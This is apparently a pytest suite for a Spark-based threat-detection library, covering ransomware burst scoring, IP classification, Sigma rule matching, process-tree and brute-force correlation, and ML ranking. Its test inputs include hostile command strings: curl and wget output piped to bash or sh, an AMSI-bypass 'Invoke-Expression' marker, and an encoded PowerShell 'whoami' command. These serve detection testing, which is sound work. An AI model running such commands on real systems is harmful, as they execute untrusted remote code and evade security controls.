"""Worked examples and property tests of the behaviour and correlation operators."""

from __future__ import annotations

import hashlib
import ipaddress
import json
import random

import pytest
from pyspark.sql import functions as F

from sigloom.functions import scalars
from sigloom.operators import correlate, learning, packs, proctree, ransomware, reports, rules
from sigloom.sources import parsers, sinks
from sigloom.streaming import jobs

S = 1_000_000


def _one(spark, column, **values):
    return spark.createDataFrame([tuple(values.values())], list(values)).select(column).first()[0]


@pytest.mark.parametrize(("path", "ext", "base"), [("C:\\Users\\victim\\doc.docx.encrypted", "encrypted", "doc.docx.encrypted"), ("/etc/passwd", "", "passwd"), ("report.PDF", "pdf", "report.pdf")])
def test_path_parts(spark, path, ext, base):
    assert _one(spark, scalars.extension(F.col("p")), p=path) == ext
    assert _one(spark, scalars.basename(F.col("p")), p=path) == base


def test_times(spark):
    rows = spark.createDataFrame([("2024-01-15T12:00:00+01:00",), ("2024-01-15T12:00:00",), ("1705320000",), ("junk",), (None,)], "t string")
    got = [r[0] for r in rows.select(F.unix_seconds(scalars.parse_to_utc(F.col("t"), F.timestamp_seconds(F.lit(7))))).collect()]
    assert got == [1705316400, 1705320000, 1705320000, 7, 7]


def test_private_addresses(spark):
    want = {"10.0.0.1": True, "172.32.0.1": False, "100.64.0.1": False, "192.0.0.9": False, "192.0.0.8": True, "not-an-ip": False, "010.0.0.1": False, "255.255.255.255": True, "224.0.0.1": False, "fe80::1": True, "2001:4860::1": False, "8.8.8.8": False}
    rows = spark.createDataFrame([(a,) for a in want], "a string").select("a", scalars.is_private_ip(F.col("a")).alias("p")).collect()
    assert {r["a"]: r["p"] for r in rows} == want


def _addresses():
    """Addresses of every block's edges, random ones in every notation, and texts that only look like one."""
    rng, out = random.Random(6), []
    blocks = [*scalars.PRIVATE_V6, *scalars.PUBLIC_V6, "0:0:0:0:0:ffff:0:0/96"]
    for block in blocks:
        net = ipaddress.ip_network(block)
        first, last = int(net[0]), int(net[-1])
        out += [str(ipaddress.IPv6Address(n % (1 << 128))) for n in (first - 1, first, first + 1, last - 1, last, last + 1, rng.randint(first, last))]
    for _ in range(300):
        groups = [rng.choice(["0", "0", f"{rng.randrange(65536):x}", f"{rng.randrange(65536):04X}"]) for _ in range(8)]
        text = ":".join(groups)
        out += [text, text.replace(":0:0:", "::", 1), str(ipaddress.IPv6Address(text)), f"{str(ipaddress.IPv6Address(text))}%eth{rng.randrange(3)}"]
        out.append(":".join(groups[:6]) + "." .join(["", *[str(rng.randrange(256)) for _ in range(4)]]).replace(".", ":", 1))
        cut = list(rng.choice(out[-4:]))
        cut[rng.randrange(len(cut))] = rng.choice([":", "", "g", ".", "::", "0"])
        out.append("".join(cut))
    out += [f"::ffff:{a}" for a in ("10.1.2.3", "8.8.8.8", "192.0.0.9", "100.64.0.1", "256.1.1.1", "1.2.3", "01.2.3.4")]
    out += ["::", "::1", ":::", ":", "1::2::3", "::1%", "%eth0", "::1%a%b", "1:2:3:4:5:6:7::", "::2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:9", "1:2:3:4:5:6:7", ":1:2:3:4:5:6:7:8", "1:2:3:4:5:6:7:8:", "::1.2.3.4", "1:2:3:4:5:6:7:1.2.3.4", "1.2.3.4::", "::12345", " ::1", "::1 "]
    return sorted(set(out))


def test_addresses_as_the_standard_library_reads_them(spark):
    def read(text):
        try:
            return ipaddress.ip_address(text)
        except ValueError:
            return None

    given = _addresses()
    rows = spark.createDataFrame([(a,) for a in given], "a string").select("a", scalars.is_private_ip(F.col("a")).alias("p"), scalars.ipv6_hex(F.col("a")).alias("x"))
    assert "Python" not in rows._jdf.queryExecution().toString()
    got = {r["a"]: (r["x"], r["p"]) for r in rows.collect()}
    want = {a: (f"{int(read(a)):032x}" if read(a) is not None and read(a).version == 6 else None, read(a) is not None and read(a).is_private) for a in given}
    assert {a: (got[a], want[a]) for a in given if got[a] != want[a]} == {}
    assert sum(p for _, p in got.values()) > 50


def test_private_ipv6_is_not_external(spark):
    """As for IPv4, a connection to a private address is none of a report's."""
    rows = [("h", "p.exe", 1, "network", "outbound", a, 443, "tcp", i, f"e{i}") for i, a in enumerate(["fe80::1", "fd00::1", "::1", "::ffff:10.0.0.1", "2a00:1450:4001::5", "8.8.8.8"])]
    df = spark.createDataFrame(rows, "host string, process_name string, pid long, event_type string, direction string, dest_ip string, dest_port int, protocol string, us long, event_id string")
    assert sorted(r["dest_ip"] for r in ransomware.outbound_connections(df, ("host", "process_name", "pid")).collect()) == ["2a00:1450:4001::5", "8.8.8.8"]


def test_priority(spark):
    row = spark.createDataFrame([(134,)], "p int").select(scalars.syslog_facility(F.col("p")), scalars.syslog_severity(F.col("p"))).first()
    assert tuple(row) == (16, "informational")


def _consume(events, width):
    best, j = 0, 0
    for i in range(len(events)):
        seen = set()
        j = max(j, i)
        while j < len(events) and events[j][0] - events[i][0] <= width:
            if events[j][1]:
                seen.add(events[j][2])
            j += 1
        best = max(best, len(seen))
    return best


def _slide(events, width):
    return max([len({p for t, m, p in events if m and a <= t <= a + width}) for a, _, _ in events], default=0)


def test_bursts_equal_brute_force(spark):
    rng = random.Random(1)
    rows, want = [], {}
    for pid in range(60):
        events = sorted((rng.randrange(200) * S, rng.random() < 0.7, f"f{rng.randrange(8)}") for _ in range(rng.randrange(1, 25)))
        want[pid] = (_consume(events, 60 * S), _slide(events, 60 * S))
        rows += [("p", pid, *e) for e in events]
    df = spark.createDataFrame(rows, "process_name string, pid int, us long, mutating boolean, path string")
    once = {r["pid"]: r["max_burst"] for r in ransomware.burst_consume_once(df).collect()}
    slide = {r["pid"]: r["max_unique"] for r in ransomware.burst_sliding(df).collect()}
    for pid, (a, b) in want.items():
        assert once[pid] == a
        assert slide.get(pid, 0) == b


def test_score_thresholds(spark):
    names = {0.857: 5, 0.6: 3, 0.3: 2, 0.1: 1}
    rows = spark.createDataFrame([(s,) for s in names], "s double").select("s", F.size(ransomware.recommended_actions(F.col("s")))).collect()
    assert {r[0]: r[1] for r in rows} == names


def test_sigma_three_selections(spark):
    df = spark.createDataFrame([("e", "h", "Invoke-Expression -join amsiInitFailed")], "event_id string, host string, command_line string")
    assert rules.sigma_match(df, "ps_scriptblock").first()["score"] == 0.9
    assert len(packs.SPAWN_PAIRS) == 33


def test_spawn_pairs(spark):
    df = spark.createDataFrame([("C:\\x\\WINWORD.EXE", "c:/y/powershell.exe"), ("explorer.exe", "notepad.exe")], "parent_image string, image string")
    assert [r["parent"] for r in rules.spawn_suspect(df).collect()] == ["winword.exe"]


def test_recon_boundary(spark):
    rows = [("h", "a", 0, "1", "recon_identity"), ("h", "a", 299 * S, "2", "recon_enum"), ("h", "b", 0, "3", "recon_identity"), ("h", "b", 300 * S, "4", "recon_enum"), ("h", "c", 5, "5", "recon_enum")]
    df = spark.createDataFrame(rows, "host string, process_key string, us long, event_id string, kind string")
    assert [r["event_id"] for r in correlate.recon_sequence(df).collect()] == ["2"]


def test_bruteforce_boundary(spark):
    rows = [("h", "a", t * S, f"a{t}") for t in (0, 30, 60, 90, 120)] + [("h", "b", t * S, f"b{t}") for t in (0, 30, 60, 90)] + [("h", "c", t * S, f"c{t}") for t in (0, 30, 60, 90, 121)]
    df = spark.createDataFrame(rows, "host string, src_ip string, us long, event_id string")
    assert [r["event_id"] for r in correlate.bruteforce(df).collect()] == ["a120"]


def test_failing_layer_is_reported(spark):
    df = spark.createDataFrame([("e", "h", 0.5)], "event_id string, host string, score double")
    hit = lambda score: F.array(F.struct(F.lit("t").alias("signal_type"), score.alias("score"), F.lit("").alias("tactic"), F.lit("T1").alias("technique")))
    out, failed = correlate.union_layers(df, [("good", lambda: hit(F.col("score"))), ("bad", lambda: hit(F.col("missing")))])
    assert [tuple(r) for r in out.collect()] == [("e", "h", "t", 0.5, "", "T1", "good")]
    assert list(failed) == ["bad"]


def test_ancestors_stop_at_a_cycle_and_at_depth(spark, tmp_path):
    rows = [("h", 1, 2), ("h", 2, 1), *[("g", i, i - 1) for i in range(1, 15)]]
    df = spark.createDataFrame(rows, "host string, pid long, ppid long")
    got = {(r["host"], r["pid"]): r["chain"] for r in proctree.ancestors(df, f"file://{tmp_path}/t").collect()}
    assert got[("h", 1)] == [2]
    assert got[("g", 3)] == [1, 2]
    assert got[("g", 14)] == list(range(4, 14))


def test_metrics_are_zero_where_undefined(spark):
    df = spark.createDataFrame([(0, 0), (0, 0)], "label int, prediction int")
    got = {r["label"]: (r["precision"], r["recall"]) for r in learning.evaluate(df).collect()}
    assert got == {0: (1.0, 1.0), 1: (0.0, 0.0)}


def test_encoded_command(spark):
    import base64

    text = "powershell -enc " + base64.b64encode("whoami /all".encode("utf-16-le")).decode()
    assert _one(spark, scalars.decoded_command(F.col("c")), c=text) == "whoami /all"
    assert _one(spark, scalars.decoded_command(F.col("c")), c="powershell -enc !!!") is None


def test_severity_is_critical_from_085(spark):
    assert _one(spark, scalars.severity(F.col("s")), s=0.87) == "critical"


def test_coverage_has_subtotals(spark):
    df = spark.createDataFrame([("a", "x", 0.5), ("a", "y", 0.7)], "tactic string, technique string, score double")
    assert reports.coverage(df).count() == 4


def test_every_outbound_connection_is_kept(spark):
    rows = [("p", 1, i, f"e{i:05d}", "network", "outbound", "8.8.8.8", 443, "tcp") for i in range(1500)]
    df = spark.createDataFrame(rows, "process_name string, pid int, us long, event_id string, event_type string, direction string, dest_ip string, dest_port int, protocol string")
    got = ransomware.outbound_external(df).first()
    assert got["n_outbound"] == 1500
    assert [c["event_id"] for c in got["outbound"]] == [r[3] for r in rows]


def test_every_child_image_is_kept(spark):
    df = spark.range(10_500).select(F.lit("p").alias("parent"), F.format_string("c%05d", "id").alias("image"))
    got = proctree.children(df.union(df.limit(1))).first()
    assert (got["n_children"], got["child_images"]) == (10_501, [f"c{i:05d}" for i in range(10_500)])


def test_every_process_is_ranked(spark):
    rows = spark.range(2500).select(F.concat(F.lit("p"), "id").alias("process_name"), F.col("id").cast("int").alias("pid"), *[(F.col("id") % (7 + i)).cast("double").alias(c) for i, c in enumerate(learning.FEATURES)], (F.col("id") % 2).cast("int").alias("label"))
    model = learning.train(rows, trees=3)
    got = learning.rank(model, rows).orderBy("rank").collect()
    assert [r["rank"] for r in got] == list(range(1, 2501))
    order = [(-r["probability"], r["process_name"], r["pid"]) for r in got]
    assert order == sorted(order)
    assert [r["pid"] for r in learning.rank(model, rows, top=5).orderBy("rank").collect()] == [r["pid"] for r in got[:5]]


ODD = ["plain", "höst \U0001f5a5", 'q"uo\\te/', "tab\t nl\n bell\x07 esc\x1b del\x7f", "\\u000B", "", None, "\u2028 日本"]


def _id(value):
    return hashlib.sha256(b"v1|" + json.dumps(value, sort_keys=True, separators=(",", ":")).encode()).hexdigest()


def test_event_ids_equal_a_recomputation(spark):
    """Nulls, nested fields, escapes and text beyond ASCII, from columns and from raw lines."""
    rows = [(i, t, (t, [t, "z"], i % 2 == 0)) for i, t in enumerate(ODD)]
    df = spark.createDataFrame(rows, "z long, B string, a struct<y:string,x:array<string>,b:boolean>")
    want = {i: _id({"z": i, "B": t, "a": {"y": t, "x": [t, "z"], "b": i % 2 == 0}}) for i, t in enumerate(ODD)}
    assert {r["z"]: r["id"] for r in df.select("z", scalars.stable_event_id(scalars.row_json(df.schema)).alias("id")).collect()} == want
    events = [{"timestamp": "2024-01-01T00:00:00", "host": t, "x": {"k": [t, None, 2]}, "pid": i} for i, t in enumerate(ODD)]
    lines = spark.createDataFrame([(json.dumps(e, ensure_ascii=bool(i % 2)),) for i, e in enumerate(events)], "value string")
    got = parsers.normalized(parsers.jsonl(lines).drop("malformed")).select("process.pid", "event_id").collect()
    assert {r["pid"]: r["event_id"] for r in got} == {e["pid"]: _id(e) for e in events}
    # events that differ in one field only have different ids
    near = spark.createDataFrame([("h", 1, "write"), ("h", 1, "rename")], "host string, pid long, operation string")
    assert parsers.normalized(near).select("event_id").distinct().count() == 2


def test_pipe_rule_needs_no_blank(spark):
    texts = {"curl http://x |bash": True, "wget -q http://x|sh": True, "ls | bash": False, "curl http://x": False}
    df = spark.createDataFrame([(t, "h", t) for t in texts], "event_id string, host string, command_line string")
    hits = {r["event_id"] for r in rules.sigma_match(df, "linux_suspicious").filter("array_contains(selections, 'pipe_exec')").collect()}
    assert hits == {t for t, hit in texts.items() if hit}


def test_profile_equals_its_parts(spark):
    """The one-chain profile against the separate statistics, on random events of busy and quiet processes."""
    rng = random.Random(12)
    paths = [f"C:\\d{i % 4}\\f{i}" + rng.choice(["", ".locked", ".docx", ".encrypted"]) for i in range(30)] + ["", None, "noslash.txt"]
    rows = []
    for i in range(1500):
        kind = rng.choice(["file", "file", "network", None, "process"])
        rows.append((f"e{i}", rng.choice(["busy", "busy", "busy", "a", "b", None]), rng.choice([1, 2]), rng.randrange(4000) * S, kind, rng.choice(["write", "MODIFY", "open", None]), rng.choice(paths), rng.choice(["", None, "C:\\temp\\x.exe"]), rng.choice(["High", "", None]), rng.choice(["outbound", "inbound"]), rng.choice(["8.8.8.8", "10.0.0.1", "", None]), 80, "tcp"))
    df = spark.createDataFrame(rows, "event_id string, process_name string, pid int, us long, event_type string, operation string, file_path string, process_path string, integrity_level string, direction string, dest_ip string, dest_port int, protocol string")
    files = ransomware.file_events(df)
    want = ransomware.burst_consume_once(files)
    for part in (ransomware.long_window_files(files), ransomware.file_touch_stats(files)):
        want = want.join(part, ["process_name", "pid"])
    for part in (ransomware.suspicious_extensions(files), ransomware.outbound_external(df), ransomware.process_metadata(df)):
        want = want.join(part, ["process_name", "pid"], "left")
    columns = ["process_name", "pid", "max_burst", "long_files", "unique_files", "directory_spread", "first_us", "last_us", "suspicious_extensions", "n_outbound", "outbound", "process_path", "integrity_level"]
    got = {tuple(r)[:2]: r.asDict(True) for r in ransomware.process_profile(df).select(columns).collect()}
    assert len(got) >= 4
    assert got == {tuple(r)[:2]: r.asDict(True) for r in want.select(columns).collect()}
    # windows by brute force
    changed = {}
    for e in rows:
        if e[1] == "busy" and e[2] == 1 and e[4] in ("file", None):
            changed.setdefault(e[3], []).append((e[6] or "").replace("\\", "/") if (e[5] or "").lower() in ("write", "modify") and e[6] else None)
    windows = {}
    for us in changed:
        windows.setdefault(min(t for t in changed if us - 60 * S <= t <= us), set()).update(p for p in changed[us] if p)
    assert got["busy", 1]["max_burst"] == max(map(len, windows.values()))


def test_six_factors(spark):
    row = spark.createDataFrame([("p", 1, 50, 300, 1, True, False, 9)], "process_name string, pid int, max_burst int, long_files int, n_outbound int, abnormal_location boolean, elevated_integrity boolean, directory_spread int").withColumn("suspicious_extensions", F.array(F.lit("x")))
    six, seven = (ransomware.risk_factors(row, spread=s).first() for s in (None, 3))
    assert (len(six["risk_factors"]), six["risk_score"]) == (5, 5 / 6)
    assert (len(seven["risk_factors"]), seven["risk_score"]) == (6, 6 / 7)


def test_one_repeated_extension_signals(spark):
    rows = [(f"e{i}", "h", p, 1, "x", i * 100 * S, "file", "write", f"/d/f{i}.{ext or i % 2}", None, None, None, None, None, None) for p, ext in (("odd", "qqq"), ("usual", "docx"), ("mixed", None)) for i in range(25)]
    df = spark.createDataFrame(rows, "event_id string, host string, process_name string, pid int, process_path string, us long, event_type string, operation string, file_path string, command_line string, direction string, dest_ip string, dest_port int, protocol string, integrity_level string")
    got = {r["process_key"]: r["risk_factors"] for r in ransomware.ransomware_signal(df).collect()}
    assert got == {"odd|1|x": ["suspicious_extension"]}


def test_forest_and_ranks(spark):
    rng = random.Random(3)
    rows = [(f"p{i}", i, float(i % 2), i % 2, *[rng.random() for _ in range(len(learning.FEATURES) - 1)]) for i in range(120)]
    df = spark.createDataFrame(rows, "process_name string, pid int, risk_score double, label int, " + ", ".join(f"{f} double" for f in learning.FEATURES[1:]))
    parts = learning.split(df)
    assert {r["label"]: r["n"] for r in parts.filter("train").groupBy("label").agg(F.count("*").alias("n")).collect()} == {0: 42, 1: 42}
    assert parts.columns == [*df.columns, "train"]
    model = learning.train(parts.filter("train"), trees=30)
    found = {r["feature"]: r["importance"] for r in learning.importances(model).collect()}
    assert abs(sum(found.values()) - 1) < 1e-9
    assert max(found, key=found.get) == "risk_score"
    ranked = learning.rank(model, df).select("process_name", "pid", "probability", "predicted", "rank", "label").collect()
    assert sorted(r["rank"] for r in ranked) == list(range(1, 121))
    assert [r["rank"] for r in sorted(ranked, key=lambda r: (-r["probability"], r["process_name"], r["pid"]))] == list(range(1, 121))
    assert all(r["predicted"] == (r["label"] == 1) for r in ranked)
    assert [r["rank"] for r in learning.rank(model, df, 5).orderBy("rank").collect()] == [1, 2, 3, 4, 5]


def test_tactic_places_are_those_of_one_window(spark):
    rng = random.Random(6)
    rows = [(f"sig-{rng.randrange(16**6):06x}{i}", rng.choice(["A", "B", "", None]), rng.choice([0.5, 0.7, 0.9])) for i in range(600)]
    df = spark.createDataFrame(rows, "signal_id string, tactic string, score double")
    got = {r["signal_id"]: (r["tactic"], r["place"], r["n_tactic"]) for r in reports.by_tactic(df).collect()}
    for tactic in ("A", "B", "Unknown"):
        mine = sorted((-s, i) for i, t, s in rows if (t or "Unknown") == tactic)
        assert [got[i] for _, i in mine] == [(tactic, k, len(mine)) for k in range(1, len(mine) + 1)]


def test_document_of_few_processes_only(spark):
    df = spark.createDataFrame([("p", 1), ("q", 2)], "process_name string, pid int")
    made = json.loads(sinks.document(df, min_risk_score=0.15).first()[0])
    assert made == {"min_risk_score": 0.15, "suspicious_processes": [{"process_name": "p", "pid": 1}, {"process_name": "q", "pid": 2}]}
    assert json.loads(sinks.document(df.limit(0)).first()[0]) == {"suspicious_processes": []}
    with pytest.raises(Exception, match="too many"):
        sinks.document(df, most=1).collect()


def test_episodes_close_after_the_gap(spark, tmp_path):
    rows = [("h", "a", t) for t in (0, 60, 170, 500, 510)] + [("h", "b", 5000)]
    df = spark.createDataFrame(rows, "host string, src_ip string, s long").select("host", "src_ip", F.timestamp_seconds("s").alias("ts"))
    df.write.parquet(f"{tmp_path}/in")
    stream = jobs.episodes(spark.readStream.schema(df.schema).parquet(f"{tmp_path}/in"))
    jobs.run_once(stream, f"{tmp_path}/out", f"{tmp_path}/checkpoint")
    got = spark.read.schema(stream.schema).parquet(f"{tmp_path}/out").select(F.unix_seconds("session_window.start"), F.unix_seconds("session_window.end"), "n")
    assert sorted(tuple(r) for r in got.collect()) == [(0, 290, 3), (500, 630, 2)]


def test_canonical_json_equals_the_standard_library(spark):
    """Backslashes before a `u`, escapes, controls and text beyond ASCII, in all orders."""
    rng = random.Random(7)
    parts = ["\\", "\\", "u", "u0041", "\"", "/", "\n", "\x1f", "\x7f", "\u00e9", "\U0001f5a5", "[]", "~ ", "C:\\Users\\u1"]
    texts = ["".join(rng.choices(parts, k=rng.randrange(8))) for _ in range(300)]
    rows = spark.createDataFrame([(i, json.dumps({"b": t, "a": i}, ensure_ascii=i % 2 == 0)) for i, t in enumerate(texts)], "i int, raw string")
    got = {r["i"]: r["json"] for r in rows.select("i", scalars.canonical_json(F.col("raw")).alias("json")).collect()}
    assert got == {i: json.dumps({"a": i, "b": t}, separators=(",", ":")) for i, t in enumerate(texts)}


def test_json_is_made_and_parsed_once(spark):
    """A filter behind the parser repeats neither it nor what makes its lines; canonical JSON is made once."""
    made = spark.range(10).select(F.to_json(F.struct("id", F.col("id").alias("pid"))).alias("value"))
    plan = lambda df: df._jdf.queryExecution().optimizedPlan().toString()
    parsed = plan(parsers.jsonl(made).filter("NOT malformed AND pid > 3"))
    assert parsed.count("from_json(") == 1
    assert parsed.count("StructsToJsonEvaluator") == 1
    lines = spark.range(10).select(F.concat(F.lit('{"a":'), F.col("id").cast("string"), F.lit("}")).alias("value"))
    assert plan(lines.select(scalars.canonical_json(F.col("value")).alias("x"))).count("parseJson(") == 1


@pytest.mark.parametrize("name", ["ml_train", "ml_rank"])
def test_fitting_does_not_read_the_events_again(spark, monkeypatch, name):
    """What the forest is fitted to and what it ranks are tables of processes, written once."""
    from sigloom.plans import behaviour

    read = []
    for step, place in (("train", 0), ("rank", 1)):
        kept = getattr(learning, step)
        monkeypatch.setattr(learning, step, lambda *a, kept=kept, place=place, **b: (read.extend(a[place].inputFiles()), kept(*a, **b))[1])
    assert behaviour.QUERIES[name](spark, "/root/testdata/sf0.001").count() > 0
    assert read
    assert not [f for f in read if "events.parquet" in f]
